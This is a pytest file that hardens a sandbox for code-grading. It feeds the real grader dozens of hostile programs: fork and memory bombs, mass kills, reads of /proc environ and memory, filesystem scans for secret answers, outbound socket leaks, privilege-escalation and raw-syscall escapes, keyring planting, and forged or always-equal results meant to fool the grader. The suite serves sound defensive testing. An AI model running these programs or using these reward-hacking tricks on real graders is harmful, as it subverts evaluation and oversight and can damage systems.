"""Adversarial suite: hostile programs graded by the real grader, inside a driver subprocess under an outer timeout.

The problem's answers are secret random 60-bit numbers that exist only in the driver's memory, its environment and
a data file on the host disk whose path the hostile programs know. Solving therefore REQUIRES a leak: any
solve == 1 is an escape. Beside that, sentinel files outside the scratch dir, a TCP listener on the host's
loopback, the driver's and zygote's survival, and the absence of stray processes of the sandbox uids are checked.
Destructive programs target only this test's own temp dir, and the system-wide ones (kill -1, kill every pid)
refuse to act when they find themselves running as root, so a broken sandbox cannot harm the machine.
"""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
import time
from pathlib import Path

import pytest

from reward.sandbox import isolation_problems

pytestmark = pytest.mark.skipif(bool(isolation_problems()), reason="; ".join(isolation_problems()))

# name -> (mode, code). Placeholders: @SECRET_PATH@ @SENTINEL_DIR@ @ESCAPE_TMP@ @DRIVER_PID@ @ZYGOTE_PID@ @PORT@.
# Code sets STOLEN (a list of guesses for the three answers); a default Solution returning STOLEN[k] is appended
# unless the program defines its own.
HOSTILE: dict[str, str] = {
    "fork_bomb": "import os\nfor _ in range(5000):\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
    "fork_bomb_forever": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
    "setsid_daemon": ("import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(1000)\n"),
    "subprocess_daemon": ("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; "
                          "time.sleep(1000)'], start_new_session=True)\n"),
    "memory_bomb": "x = []\nwhile True:\n    x.append(bytearray(50_000_000))\n",
    "memory_bomb_forked": ("import os\nfor _ in range(8):\n    try:\n        os.fork()\n    except OSError:\n"
                           "        pass\nx = []\ntry:\n    while True:\n        x.append(bytearray(10_000_000))\n"
                           "except MemoryError:\n    pass\nimport time\ntime.sleep(1000)\n"),
    "infinite_loop": "while True:\n    pass\n",
    "loop_in_method": "class Solution:\n    def secret(self, k):\n        while True:\n            pass\n",
    "sleep_past_limit": "import time\ntime.sleep(1000)\n",
    "ignore_signals_and_spin": ("import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):"
                                "\n    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass\n"),
    "write_outside_scratch": (
        "for path in ['@SENTINEL_DIR@/escaped.txt', '@ESCAPE_TMP@', '/etc/gq_escaped', '/usr/gq_escaped',\n"
        "             '/scratch/../gq_escaped', '/gq_escaped', '/proc/gq_escaped']:\n"
        "    try:\n        open(path, 'w').write('escaped')\n    except OSError:\n        pass\n"),
    "delete_files": ("import os, shutil\ntry:\n    os.remove('@SENTINEL_DIR@/sentinel.txt')\nexcept OSError:\n    pass\n"
                     "shutil.rmtree('@SENTINEL_DIR@', ignore_errors=True)\n"),
    "open_socket": (
        "import socket\nfor addr in [('127.0.0.1', @PORT@), ('8.8.8.8', 53), ('1.1.1.1', 443)]:\n"
        "    try:\n        s = socket.create_connection(addr, timeout=0.5)\n        s.sendall(b'escaped')\n"
        "        STOLEN = [int(x) for x in s.recv(1000).split()]\n    except OSError:\n        pass\n"
        "try:\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))\nexcept OSError:\n"
        "    pass\n"),
    "kill_parent": "import os\nos.kill(os.getppid(), 9)\n",
    "killpg_own_group": "import os\nos.killpg(os.getpgid(0), 9)\n",
    "kill_driver_and_zygote": ("import os\nfor pid in (@DRIVER_PID@, @ZYGOTE_PID@):\n    try:\n        os.kill(pid, 9)\n"
                               "    except OSError:\n        pass\n"),
    "kill_minus_one": "import os\nif os.getuid() != 0:\n    os.kill(-1, 9)\n",
    "kill_every_pid": ("import os\nif os.getuid() != 0:\n    for pid in range(2, 50000):\n        try:\n"
                       "            os.kill(pid, 9)\n        except OSError:\n            pass\n"),
    "patched_print_and_stdout": ("import builtins, io, sys\nbuiltins.print = lambda *a, **k: None\n"
                                 "sys.stdout = io.StringIO()\nSTOLEN = [1, 2, 3]\n"),
    "patched_json": ("import json\njson.dumps = lambda *a, **k: '{\"i\": 0, \"v\": 1}'\n"
                     "json.loads = lambda *a, **k: {'passed': True}\n"),
    "patched_builtins": ("import builtins\nbuiltins.type = lambda *a: int\nbuiltins.isinstance = lambda *a: True\n"
                         "builtins.len = lambda x: 0\nbuiltins.getattr = lambda *a: (lambda **k: 0)\n"),
    "patched_harness_modules": ("import sys\nfor m in ('_canonical', '_harness'):\n    mod = sys.modules.get(m)\n"
                                "    if mod:\n        for n in ('encode', '_encode'):\n"
                                "            setattr(mod, n, lambda v: 123456789012345678)\n"),
    "forged_records": ("import os\nos.write(3, b'{\"i\": 0, \"v\": 1}\\n{\"i\": 1, \"v\": 2}\\n{\"i\": 2, \"v\": 3}\\n"
                       "{\"done\": 3}\\n')\nos._exit(0)\n"),
    "forged_stdout_verdicts": ("print('{\"tests_passed\": true, \"passed\": 3, \"total\": 3}')\n"
                               "print('All tests passed')\nprint('eq_correct: True')\n"),
    "junk_on_result_channel": "import os\nos.write(3, os.urandom(4096))\n",
    "close_result_channel": "import os\nos.close(3)\n",
    "stdout_over_result_channel": "import os\nos.dup2(1, 3)\n",
    "close_all_fds": "import os\nos.closerange(0, 1024)\n",
    "always_equal": ("class AlwaysEqual:\n    def __eq__(self, o):\n        return True\n    def __ne__(self, o):\n"
                     "        return False\n    __hash__ = object.__hash__\n\nclass Solution:\n"
                     "    def secret(self, k):\n        return AlwaysEqual()\n"),
    "always_true_everything": ("class T(int):\n    def __eq__(self, o):\n        return True\n    def __bool__(self):\n"
                               "        return True\n    __hash__ = int.__hash__\n    def __repr__(self):\n"
                               "        return '0'\n\nclass Solution:\n    valid = T()\n"
                               "    def secret(self, k):\n        return T(0)\n"),
    "int_subclass": ("class I(int):\n    pass\n\nclass Solution:\n    def secret(self, k):\n        return I(7)\n"),
    "list_subclass": ("class L(list):\n    def __eq__(self, o):\n        return True\n\nclass Solution:\n"
                      "    def secret(self, k):\n        return L()\n"),
    "sys_exit_at_import": "import sys\nsys.exit(0)\n",
    "os_exit_at_import": "import os\nos._exit(0)\n",
    "giant_stdout": "import sys\nwhile True:\n    sys.stdout.write('A' * 65536)\n",
    "giant_stderr": "import sys\nwhile True:\n    sys.stderr.write('E' * 65536)\n",
    "recursion_bomb": "import sys\nsys.setrecursionlimit(10**6)\ndef f(n):\n    return f(n + 1)\nf(0)\n",
    "read_tests_from_disk": ("import re\ntry:\n    text = open('@SECRET_PATH@').read()\n"
                             "    STOLEN = [int(x) for x in re.findall(r'\\d{15,}', text)]\nexcept OSError:\n    pass\n"),
    "search_filesystem": (
        "import os, re\nfor top in ['/work', '/root', '/home', '/tmp', '/scratch', '/etc', '/dev/shm', '/var']:\n"
        "    for d, _, files in os.walk(top):\n        for f in files:\n            try:\n"
        "                found = re.findall(r'\\d{15,}', open(os.path.join(d, f), errors='ignore').read(1 << 20))\n"
        "            except (OSError, ValueError):\n                continue\n            STOLEN = STOLEN + [int(x) for x in found]\n"),
    "read_driver_proc": (
        "import os, re\nfor p in ['/proc/@DRIVER_PID@/environ', '/proc/@DRIVER_PID@/cmdline', '/proc/@DRIVER_PID@/mem',\n"
        "          '/proc/@ZYGOTE_PID@/environ', '/proc/1/environ'] + ['/proc/%s/environ' % q for q in os.listdir('/proc')"
        " if q.isdigit()]:\n    try:\n        STOLEN += [int(x) for x in re.findall(rb'\\d{15,}', open(p, 'rb').read())]\n"
        "    except OSError:\n        pass\n"),
    "gc_scan_memory": ("import gc\nfor o in gc.get_objects():\n    if type(o) is dict:\n        for v in list(o.values()):\n"
                       "            if type(v) is str and v.isdigit() and len(v) >= 15:\n                STOLEN.append(int(v))\n"),
    "threads_outlive": ("import os, threading, time\ndef late():\n    time.sleep(0.3)\n    os.write(3, b'{\"done\": 3}\\n')\n"
                        "    time.sleep(1000)\nthreading.Thread(target=late).start()\n"),
    "fill_scratch": "with open('big', 'wb') as f:\n    while True:\n        f.write(b'x' * (1 << 20))\n",
    "many_files": "for i in range(100000):\n    open('f%d' % i, 'w').close()\n",
    "fd_exhaustion": "fds = [open('/dev/null') for _ in range(100000)]\n",
    "privilege_escalation": (
        "import os, ctypes\nfor attempt in (lambda: os.setuid(0), lambda: os.chroot('..'), lambda: os.setgid(0),\n"
        "                lambda: ctypes.CDLL(None).mount(b'none', b'/scratch', b'tmpfs', 0, None),\n"
        "                lambda: ctypes.CDLL(None).unshare(0x10000000)):\n    try:\n        attempt()\n"
        "    except Exception:\n        pass\nos.system('mount -t tmpfs none /scratch 2>/dev/null; su -c id 2>/dev/null')\n"),
    # state that would outlive the execution: keys in the uid's keyrings, for a later execution of the same uid
    "keyring_plant_and_read": (
        "import ctypes, os, re\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
        "L = ctypes.c_long\nx86 = os.uname().machine == 'x86_64'\nADD, KEYCTL = (248, 250) if x86 else (217, 219)\n"
        "for ring in (-4, -3, -5):\n"
        "    libc.syscall(L(ADD), b'user', b'gq-plant', b'123456789012345678', L(18), L(ring))\n"
        "buf = ctypes.create_string_buffer(4096)\nfor ring in (-4, -3, -5):\n"
        "    if libc.syscall(L(KEYCTL), L(11), L(ring), buf, L(4096)) > 0:\n"
        "        STOLEN += [int(x) for x in re.findall(rb'\\d{15,}', buf.raw)]\n"),
    # host paths: learn where the checkout and the interpreter live, then read the answers from there
    "learn_host_paths": (
        "import os, re, sys\nseen = ' '.join(sys.path + [sys.executable, sys.prefix, os.__file__] + sys.argv)\n"
        "for p in ['/proc/self/mountinfo', '/proc/self/maps', '/proc/1/cmdline', '/etc/mtab']:\n    try:\n"
        "        seen += open(p, errors='ignore').read()\n    except OSError:\n        pass\n"
        "for top in set(re.findall(r'(/[\\w.-]+(?:/[\\w.-]+)*)', seen)) | {'@CHECKOUT@', '@SECRET_PATH@'}:\n"
        "    for d, _, files in os.walk(top):\n        for f in files[:50]:\n            try:\n"
        "                text = open(os.path.join(d, f), errors='ignore').read(1 << 16)\n"
        "                STOLEN += [int(x) for x in re.findall(r'\\d{15,}', text)]\n"
        "            except (OSError, ValueError):\n                pass\n"),
    # a plain install's data under the interpreter's site-packages, or the system's dist-packages
    "site_packages_scan": (
        "import glob, os, re\ntops = glob.glob('/python/lib/python3*/site-packages') + glob.glob('/usr/lib/python3*/*-packages')"
        "\nfor top in tops + glob.glob('/usr/local/lib/python3*/*-packages'):\n    for d, _, files in os.walk(top):\n"
        "        if 'reward' in d or 'data' in d:\n            for f in files:\n                try:\n"
        "                    text = open(os.path.join(d, f), errors='ignore').read()\n"
        "                    STOLEN += [int(x) for x in re.findall(r'\\d{15,}', text)]\n"
        "                except (OSError, ValueError):\n                    pass\n"),
    # system calls that reach other processes, namespaces or the kernel's larger surfaces
    "syscall_escapes": (
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
        "L = ctypes.c_long\nx86 = os.uname().machine == 'x86_64'\n"
        "if libc.syscall(L(272 if x86 else 97), L(0x10000000 | 0x20000)) == 0:\n"
        "    os.makedirs('p', exist_ok=True)\n    libc.mount(b'proc', b'p', b'proc', 0, None)\n"
        "libc.syscall(L(101 if x86 else 117), L(16), L(1), L(0), L(0))\n"
        "libc.syscall(L(304 if x86 else 265), L(-100), b'\\x08\\x00\\x00\\x00\\x01\\x00\\x00\\x00' * 2, L(0))\n"
        "buf = ctypes.create_string_buffer(256)\n"
        "for nr, args in ((321 if x86 else 280, (L(5), buf, L(128))), (425, (L(8), buf)),\n"
        "                 (298 if x86 else 241, (buf, L(1), L(-1), L(-1), L(0)))):\n    libc.syscall(L(nr), *args)\n"),
    # sentinel pays the bool True only: a catch-all __getattr__ handing out a truthy object is no pass
    "sentinel_truthy_object": ("class Truthy:\n    def __bool__(self):\n        return True\n    def __eq__(self, o):\n"
                               "        return True\n\nclass Solution:\n    def secret(self, k):\n        return 0\n"
                               "    def __getattr__(self, name):\n        return Truthy()\n"),
    "flood_result_channel": ("import os\nb = b'{\"i\": 0, \"v\": [' + b'[],' * (31 * 2**20 // 3) + b'[]]}\\n'\n"
                             "while b:\n    b = b[os.write(3, b):]\n"),
    "hostile_exception": ("class E(Exception):\n    def __str__(self):\n        raise E()\n    def __repr__(self):\n"
                          "        raise E()\n\nclass Solution:\n    def secret(self, k):\n        raise E()\n"),
}

# Graded under a given mode instead of round-robin, and never allowed to fire that mode's channel.
NEVER_PAYS = {"sentinel_truthy_object": "sentinel"}
DEFAULT_SOLUTION = "\n\nclass Solution:\n    def secret(self, k):\n        return STOLEN[k] if k < len(STOLEN) else 0\n"
CORRECT_TWO_SUM = ("class Solution:\n    def twoSum(self, nums, target):\n        seen = {}\n"
                   "        for i, x in enumerate(nums):\n            if target - x in seen:\n"
                   "                return [seen[target - x], i]\n            seen[x] = i\n")

DRIVER = r'''
import json, os, socket, sys, threading, time
from reward.grader import grade_batch
from reward.modes import MODES
from reward.problem import Problem, TestCase
from reward.sandbox import Sandbox, SandboxLimits

cfg = json.load(open(sys.argv[1]))
listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(8)
connections = []
def accept():
    while True:
        conn, _ = listener.accept()
        connections.append(1)
        conn.sendall(" ".join(cfg["secrets"]).encode())
        conn.close()
threading.Thread(target=accept, daemon=True).start()

def problem(pid, method, tests):
    return Problem(problem_id=pid, source="synthetic", difficulty="Easy", description=pid,
                   starter_code=f"class Solution:\n    def {method}(self, x):\n        ", method_name=method,
                   setup_code="from typing import *\n", tests=tuple(TestCase(i, e) for i, e in tests))
secret = problem("secret", "secret", [(f"k = {k}", v) for k, v in enumerate(cfg["secrets"])])
two_sum = problem("two-sum", "twoSum", [("nums = [2,7,11,15], target = 9", "[0, 1]"), ("nums = [3,2,4], target = 6", "[1, 2]")])

sandbox = Sandbox(SandboxLimits(cpu_s=1, wall_s=2, memory_bytes=256 << 20), uid_base=cfg["uid_base"])
sandbox.start()
zygote_pid = sandbox.zygote_pid
fill = {"@SECRET_PATH@": cfg["secret_path"], "@SENTINEL_DIR@": cfg["sentinel_dir"], "@ESCAPE_TMP@": cfg["escape_tmp"],
        "@DRIVER_PID@": str(os.getpid()), "@ZYGOTE_PID@": str(zygote_pid), "@PORT@": str(listener.getsockname()[1]),
        "@CHECKOUT@": cfg["checkout"]}
items, labels = [], []
for n, (name, code) in enumerate(cfg["hostile"].items()):
    for key, value in fill.items():
        code = code.replace(key, value)
    code = "STOLEN = []\n" + code + ("" if "class Solution" in code else cfg["default_solution"])
    mode = cfg["never_pays"].get(name, MODES[n % len(MODES)])
    items.append((secret, "```python\n" + code + "```", mode)); labels.append(("hostile", name, mode))
    if n % 6 == 0:
        items.append((two_sum, "```python\n" + cfg["correct_two_sum"] + "```", mode)); labels.append(("correct", "two_sum", mode))
t0 = time.time()
verdicts = grade_batch(items, max_workers=4, sandbox=sandbox)
elapsed = time.time() - t0
def parent(pid):
    try:
        return open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1]
    except OSError:  # gone meanwhile
        return None
def zygote_children():
    time.sleep(0.5)
    return [p for p in os.listdir("/proc") if p.isdigit() and parent(p) == str(zygote_pid)]
after_batch = zygote_children()
# the guard prepared for the next job must be the one that runs it (and then exit): one more execution tells a
# prepared guard from one left behind by a hostile program
sandbox.run({"kind": "oracle", "program": "pass\n", "setup_code": "", "method": "f", "inputs": []})
after_one_more = zygote_children()
out = {"verdicts": [dict(kind=k, name=n, mode_name=m, **v.to_reward_dict(), reason=v.reason)
                    for (k, n, m), v in zip(labels, verdicts)],
       "elapsed_s": elapsed, "connections": len(connections), "zygote_alive": sandbox.zygote_pid == zygote_pid,
       "zygote_children": after_batch, "zygote_children_after_one_more": after_one_more, "driver_pid": os.getpid(),
       "isolation": sandbox.isolation}
sandbox.close()
json.dump(out, open(cfg["out"], "w"))
'''


def _sandbox_uid_processes(uid_base: int) -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            uid_line = next(line for line in open(f"/proc/{pid}/status") if line.startswith("Uid:"))
        except (OSError, StopIteration):
            continue
        if uid_base <= int(uid_line.split()[1]) < uid_base + (1 << 22):
            found.append(pid)
    return found


def test_hostile_programs_get_no_solve_no_escape_and_leave_no_trace(tmp_path: Path):
    assert len(HOSTILE) >= 30
    rng = random.Random(os.urandom(8))
    secrets = [str(rng.randrange(10**17, 10**18)) for _ in range(3)]
    uid_base = rng.randrange(10**8, 3 * 10**9)
    sentinel_dir = tmp_path / "sentinels"
    sentinel_dir.mkdir()
    (sentinel_dir / "sentinel.txt").write_text("intact")
    secret_path = tmp_path / "tests.json"
    secret_path.write_text(json.dumps({"tests": [{"input": f"k = {k}", "expected": s} for k, s in enumerate(secrets)]}))
    escape_tmp = f"/tmp/gq_escaped_{rng.randrange(10**9)}"
    cfg = {"secrets": secrets, "uid_base": uid_base, "sentinel_dir": str(sentinel_dir), "secret_path": str(secret_path),
           "escape_tmp": escape_tmp, "hostile": HOSTILE, "default_solution": DEFAULT_SOLUTION,
           "correct_two_sum": CORRECT_TWO_SUM, "out": str(tmp_path / "out.json"), "never_pays": NEVER_PAYS,
           "checkout": str(Path(__file__).resolve().parent.parent)}
    (tmp_path / "cfg.json").write_text(json.dumps(cfg))
    env = {**os.environ, **{f"GQ_SECRET_{k}": s for k, s in enumerate(secrets)}}
    driver = subprocess.run([sys.executable, "-c", DRIVER, str(tmp_path / "cfg.json")], env=env, timeout=240,
                            capture_output=True, text=True)
    assert driver.returncode == 0, f"the grading process should survive every hostile program:\n{driver.stderr[-3000:]}"
    out = json.loads((tmp_path / "out.json").read_text())

    hostile = [v for v in out["verdicts"] if v["kind"] == "hostile"]
    assert len(hostile) == len(HOSTILE), "every hostile program should get exactly one verdict"
    solved = [(v["name"], v["reason"]) for v in hostile if v["solve"]]
    assert not solved, f"no hostile program can know the secret answers; these solved (= a leak): {solved}"
    for v in hostile:
        assert v["score"] == 0.5 * v["compile"] + 3.0 * v["channel"], f"reward formula broken for {v}"
        assert "sandbox error" not in v["reason"], f"the sandbox itself should never fail: {v}"
    correct = [v for v in out["verdicts"] if v["kind"] == "correct"]
    assert correct and all(v["solve"] == 1 for v in correct), (
        f"correct samples graded beside hostile ones should still pass: {[v['reason'] for v in correct]}")

    assert (sentinel_dir / "sentinel.txt").read_text() == "intact", "a file outside the scratch dir was changed"
    assert sorted(p.name for p in sentinel_dir.iterdir()) == ["sentinel.txt"], "a file appeared outside scratch"
    assert not os.path.exists(escape_tmp), f"{escape_tmp} was written from inside the sandbox"
    assert out["connections"] == 0, "a sandboxed program reached a TCP listener on the host's loopback"
    assert out["zygote_alive"], "the zygote should survive hostile programs"
    prepared, later = out["zygote_children"], out["zygote_children_after_one_more"]
    assert len(prepared) == 1 and len(later) == 1 and not set(prepared) & set(later), (
        f"only the guard prepared for the next job may remain, and it must be gone once that job ran: after the "
        f"batch {prepared}, after one more execution {later} (a pid in both is a guard left behind)")
    never = [(v["name"], v["reason"]) for v in hostile if v["name"] in NEVER_PAYS and v["channel"]]
    assert not never, f"these must not fire their mode's channel: {never}"
    if out["isolation"] == "root":  # per-execution uids: anything of theirs left behind is visible by uid
        deadline = time.monotonic() + 3
        while _sandbox_uid_processes(uid_base) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _sandbox_uid_processes(uid_base) == [], "processes of sandbox uids outlived their execution"
        with open("/proc/key-users") as f:
            keyed = [line.strip() for line in f if uid_base <= int(line.split(":")[0]) < uid_base + (1 << 22)]
        assert not keyed, f"sandbox uids hold kernel keys, which a later execution of the same uid could read: {keyed}"

    channel_fired = sorted(v["name"] for v in hostile if v["channel"])
    print(f"\nhostile suite: {len(hostile)} programs, 0 solves, {len(channel_fired)} fired their mode's channel "
          f"({channel_fired}), graded in {out['elapsed_s']:.1f}s")
    for v in hostile:
        print(f"  {v['name']:28s} {v['mode_name']:14s} score={v['score']} | {v['reason'][:150]}")


# Programs that flood the result channel (fd 3) before the tests run. Each is graded under run_tests (the oracle and
# the channel execution, as `grade` does); what the GRADING process pays is measured, not the sandbox.
FLOODS = {
    "one 31 MiB JSON record": "b = b'{\"i\": 0, \"v\": [' + b'[],' * (31 * 2**20 // 3) + b'[]]}\\n'",
    "32 MiB with no line end": "b = b'A' * (32 << 20)",
    "10M empty records": "b = b'{}\\n' * (10 << 20)",
    "a record just under the cap": "b = b'{\"i\": 0, \"v\": [' + b'[],' * ((CAP - 64) // 3) + b'[]]}\\n'",
    "a 1M-deep nesting": "b = b'{\"i\": 0, \"v\": ' + b'[' * 10**6 + b']' * 10**6 + b'}\\n'",
    "a report record just under the cap": ("b = b'{\"channel\": true, \"detail\": [' + b'[],' * ((CAP - 64) // 3)"
                                           " + b'[]]}\\n'"),
}

FLOOD_DRIVER = r'''
import json, resource, sys
from reward.grader import grade
from reward.problem import Problem, TestCase
from reward.sandbox import Sandbox, SandboxLimits

floods = json.loads(sys.argv[1])
problem = Problem(problem_id="add-one", source="synthetic", difficulty="Easy", description="add one",
                  starter_code="class Solution:\n    def f(self, a):\n        ", method_name="f",
                  setup_code="from typing import *\n", tests=tuple(TestCase(f"a = {a}", str(a + 1)) for a in range(3)))
wrong = "class Solution:\n    def f(self, a):\n        return a\n"
def status(key):
    return int(next(l for l in open("/proc/self/status") if l.startswith(key)).split()[1]) * 1024
def cpu():
    r = resource.getrusage(resource.RUSAGE_SELF)
    return r.ru_utime + r.ru_stime
out = {}
with Sandbox(SandboxLimits(wall_s=4)) as sandbox:
    cap = sandbox.limits.record_cap
    grade(problem, f"```python\n{wrong}```", "run_tests", sandbox=sandbox)  # warm-up: imports, caches, the zygote
    for name, make in floods.items():
        program = f"import os\nCAP = {cap}\n{make}\nwhile b:\n    b = b[os.write(3, b):]\n{wrong}"
        with open("/proc/self/clear_refs", "w") as f:
            f.write("5")  # the peak resident memory restarts from the current one
        rss, start = status("VmRSS:"), cpu()
        v = grade(problem, f"```python\n{program}```", "run_tests", sandbox=sandbox)
        out[name] = {"cpu_s": cpu() - start, "peak_mib": (status("VmHWM:") - rss) / 2**20, "score": v.score,
                     "solve": v.solve, "reason": v.reason}
print(json.dumps(out))
'''


def test_a_flooded_result_channel_costs_the_grader_little_cpu_and_memory():
    driver = subprocess.run([sys.executable, "-c", FLOOD_DRIVER, json.dumps(FLOODS)], capture_output=True, text=True,
                            timeout=180)
    assert driver.returncode == 0, f"the grading process should survive every flood:\n{driver.stderr[-3000:]}"
    out = json.loads(driver.stdout)
    for name, r in out.items():
        print(f"  {name:36s} grader CPU {r['cpu_s']:.3f} s, peak +{r['peak_mib']:.1f} MiB | {r['reason'][:100]}")
        assert (r["score"], r["solve"]) == (0.5, 0), f"{name}: a flood earns the compile reward only: {r}"
        assert r["cpu_s"] <= 0.2 and r["peak_mib"] <= 64, (
            f"{name}: one hostile sample may cost the grader at most 0.2 s of CPU and 64 MiB: {r}")
